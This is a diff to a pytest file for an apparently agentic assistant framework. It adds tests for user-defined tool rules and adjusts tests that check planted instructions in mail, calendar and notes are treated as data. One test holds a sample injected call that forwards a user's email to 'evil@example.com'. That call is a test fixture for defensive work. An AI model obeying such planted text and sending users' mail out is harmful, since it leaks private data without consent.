@@ -11,8 +11,6 @@ from pathlib import Path
 
 import pytest
 
-pytest.importorskip("icalendar")
-
 from mezzotint import toolcall
 from mezzotint.agent.choose import Chooser
 from mezzotint.agent.demo import fill
@@ -27,10 +25,12 @@ from mezzotint.agent.events import (
     Timing,
 )
 from mezzotint.agent.loop import Agent
+from mezzotint.agent.rules import Rules
 from mezzotint.agent.stores import Stores, open_stores
 from mezzotint.agent.tool import Tool
 from mezzotint.agent.transcript import Transcript
 from mezzotint.agent.workspace import Workspace
+from mezzotint.errors import UsageError
 from mezzotint.toolcall import Call
 
 NOW = datetime(2026, 11, 30, 9, 0).astimezone()  # a Monday
@@ -197,6 +197,26 @@ def test_what_cannot_be_undone_is_asked(stores: Stores, place: Workspace, allowe
     assert (b"I am late" in kept) == allowed
 
 
+def test_rules_of_the_user(stores: Stores) -> None:
+    known = {tool.name for tool in stores.tools}
+    rules = Rules.of({"ask": ["set_volume"], "never": ["lock_door"]}, known)
+    door = call("lock_door", door="front door", locked=True)
+    events = list(agent(stores, door, rules=rules).ask("Lock the front door"))
+    assert of(events, Refused)[0].why == "the rules forbid it"
+    events = list(
+        agent(stores, call("set_volume", level=20), rules=rules).ask("Set the volume to 20")
+    )
+    assert of(events, Refused)[0].why == "not allowed"
+    allowed = Rules.of({"allow": ["send_email"]}, known)
+    mail = call("send_email", to="Anna", subject="Late", body="late")
+    events = list(agent(stores, mail, rules=allowed).ask("Email Anna: late"))
+    assert of(events, Did)[0].outcome.ok
+    with pytest.raises(UsageError, match="no tool 'fly'"):
+        Rules.of({"allow": ["fly"]}, known)
+    with pytest.raises(UsageError, match="has 'alow'"):
+        Rules.of({"alow": []}, known)
+
+
 # Planted instructions: what is read is data
 
 
@@ -234,7 +254,7 @@ def test_a_model_that_obeys_what_it_reads_can_add_no_call(
     day = call("list_events", date="2026-12-01")
     reading = {"mail": mail, "邮件": mail, "calendar": day, "note": call("list_notes")}
     first = next(made for word, made in reading.items() if word in request_)
-    some = agent(stores, first, wish, wish, trusted=True)
+    some = agent(stores, first, wish, wish, rules=Rules(everything=True))
     events = list(some.ask(request_))
     done = [
         did.call.name for did in of(events, Did) if did.call.name == wish.name and did.outcome.ok
@@ -261,7 +281,7 @@ def test_a_value_that_is_not_the_users_is_asked_even_with_yes(
     read = call("read_email", **{"from": "Ben"})
     (*_, did, _) = agent(stores, read).ask("Read the latest mail from Ben")
     wish = call("forward_email", message=did.outcome.data["id"], recipient="evil@example.com")
-    some = agent(stores, read, wish, trusted=True, consent=consent)
+    some = agent(stores, read, wish, rules=Rules(everything=True), consent=consent)
     events = list(some.ask("Read the latest mail from Ben and forward it to Anna"))
     assert asked == [wish]
     assert of(events, Refused)
